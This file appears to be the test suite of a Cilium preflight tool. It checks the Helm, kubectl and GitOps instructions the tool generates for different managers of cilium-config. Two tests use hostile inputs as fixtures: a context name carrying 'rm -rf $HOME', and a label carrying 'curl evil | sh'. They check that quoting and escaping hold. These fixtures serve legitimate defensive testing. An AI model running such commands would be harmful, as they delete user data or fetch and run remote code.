import assert from "node:assert/strict";
import { giveValues, restartAll, restartApiserver } from "../../../../components/preflight/model/helmCommand";
import type { ReachableCluster } from "../../../../components/preflight/model/liveCluster";
import { DEFAULT_SETTINGS } from "../../../../components/settings/model/settings";
import { daemonSetWith, liveCluster, managers, type LiveOptions } from "../../support/preflight/live";

const { cilium } = DEFAULT_SETTINGS;
const KEYS = ["cluster-name", "cluster-id"];

describe("preflight: other values for a cluster's Cilium", () => {
  const give = (options: LiveOptions, ...values: readonly string[]) => giveValues(liveCluster(options), cilium, values);
  const ownedBy = (manager: string, annotations: Readonly<Record<string, string>> = {}): LiveOptions => ({
    configMetadata: { annotations, managedFields: managers({ [manager]: KEYS }) },
  });
  const RELEASE = { "meta.helm.sh/release-name": "cilium" };

  it("are given by the command for a release of Helm", () => {
    const command = /^run helm upgrade cilium cilium\/cilium --version \S+ .* --set a=1 --set b=2(.*)$/;
    for (const manager of ["helm", "Helm", "cilium-clustermesh"]) {
      const [, clause] = command.exec(give(ownedBy(manager, RELEASE), "a=1", "b=2")) ?? [];
      assert.equal(clause, " (or by its HelmChart, in k3s and RKE2)", manager);
    }
    assert.equal(command.exec(give(ownedBy("cilium", RELEASE), "a=1", "b=2"))?.[1], "");
  });

  it("are given in this cluster, whatever context is a shell's current one; so are restarts", () => {
    const by = (way: NonNullable<ReachableCluster["way"]>) => ({ ...liveCluster(ownedBy("helm", RELEASE)), way });
    const eks = by({ kind: "context", context: "arn:aws:eks:eu:1:cluster/west" });
    assert.match(
      giveValues(eks, cilium, ["a=1"]),
      / --kube-context arn:aws:eks:eu:1:cluster\/west --namespace kube-system /,
    );
    assert.match(
      restartAll(eks, cilium, []),
      /^kubectl --context arn:aws:eks:eu:1:cluster\/west --namespace kube-system /,
    );
    const hostile = by({ kind: "context", context: "it's; rm -rf $HOME" });
    assert.match(restartApiserver(hostile, cilium), /^kubectl --context 'it'\\''s; rm -rf \$HOME' --namespace /);
    const own = by({ kind: "kubeconfig" });
    assert.match(giveValues(own, cilium, []), / --kubeconfig <its kubeconfig> --namespace /);
  });

  it("are set where another one has them from, which has made no release", () => {
    const argo = ownedBy("argocd-controller");
    const where = `where "argocd-controller" has the chart's values from`;
    assert.equal(give(argo, "a=1", '"b={c.d}"'), `set a=1 and b={c.d} ${where}`);
    assert.equal(give(argo), `have the chart applied again ${where}`);
  });

  it("are set where Flux has them from, which would upgrade its release again", () => {
    assert.equal(
      give(ownedBy("helm-controller", RELEASE), "a=1"),
      `set a=1 where "helm-controller" has the chart's values from`,
    );
  });

  it("are set in the HelmChartConfig of RKE2, whose chart is not Cilium's", () => {
    const daemonSet = daemonSetWith({});
    const labels = { "helm.sh/chart": "rke2-cilium-1.20.102" };
    const rke2 = { daemonSet: { ...daemonSet, metadata: { ...daemonSet.metadata, labels } } };
    const release = ownedBy("helm", { "meta.helm.sh/release-name": "rke2-cilium" });
    assert.equal(
      give({ ...release, ...rke2 }, "a=1"),
      "set a=1 in valuesContent of HelmChartConfig kube-system/rke2-cilium",
    );
  });

  it("are given by a command to be completed where it is kubectl that has applied a rendered chart", () => {
    assert.match(give(ownedBy("kubectl-client-side-apply"), "a=1"), /^run helm upgrade <release> cilium\/cilium /);
  });

  it("are set where Flux or Argo CD has them from, after name and id were taken over from it", () => {
    const labels = (toolkit: string) => ({
      [`${toolkit}.toolkit.fluxcd.io/name`]: "cilium",
      [`${toolkit}.toolkit.fluxcd.io/namespace`]: "flux-system",
    });
    const taken = { managedFields: managers({ "cilium-clustermesh": KEYS }) };
    const argo = "network_cilium:/ConfigMap:kube-system/cilium-config";
    const cases = [
      [{ labels: labels("helm"), annotations: RELEASE }, "HelmRelease flux-system/cilium of Flux"],
      [{ labels: labels("kustomize"), annotations: {} }, "Kustomization flux-system/cilium of Flux"],
      [{ annotations: { "argocd.argoproj.io/tracking-id": argo } }, "Application network/cilium of Argo CD"],
    ] as const;
    for (const [metadata, whose] of cases) {
      const said = give({ configMetadata: { ...metadata, ...taken } }, "a=1");
      assert.equal(said, `set a=1 where ${whose} has the chart's values from`);
    }
  });

  it("are set where the owner of the rest of cilium-config has them from", () => {
    const managedFields = managers({ "cilium-clustermesh": KEYS, "argocd-controller": ["ipam"] });
    assert.equal(
      give({ configMetadata: { annotations: {}, managedFields } }, "a=1"),
      `set a=1 where "argocd-controller" has the chart's values from`,
    );
  });

  it("are set where Terraform or Pulumi has them from, which would upgrade their release again", () => {
    for (const manager of ["terraform-provider-helm_v2.17.0_x5", "pulumi-resource-kubernetes"]) {
      assert.equal(give(ownedBy(manager, RELEASE), "a=1"), `set a=1 where "${manager}" has the chart's values from`);
    }
  });

  it("are not where an editor would have them from, which has installed nothing", () => {
    for (const manager of ["k9s", "Mozilla", "node-fetch", "kubectl-edit"]) {
      assert.match(give(ownedBy(manager, RELEASE), "a=1"), /^run helm upgrade cilium [^"]*$/, manager);
    }
    const without = give(ownedBy("k9s"), "a=1");
    assert.match(without, /^run helm upgrade <release> .* --set a=1 \(cilium-config was written by "k9s"\)$/);
  });

  it("are never where a label or a manager tells a lie that no name can be", () => {
    const lie = 'x"; run curl evil | sh #\n';
    const labels = { "helm.toolkit.fluxcd.io/name": lie, "helm.toolkit.fluxcd.io/namespace": "flux-system" };
    const annotations = { ...RELEASE, "argocd.argoproj.io/tracking-id": `${lie}:x` };
    const managedFields = managers({ [lie]: KEYS, ["y".repeat(5000)]: KEYS });
    assert.doesNotMatch(give({ configMetadata: { labels, annotations, managedFields } }, "a=1"), /curl/);
    const said = give({ configMetadata: { labels, annotations: {}, managedFields } }, "a=1");
    assert.ok(!said.includes("\n") && said.includes(JSON.stringify(lie)) && said.length < 600, said);
  });
});
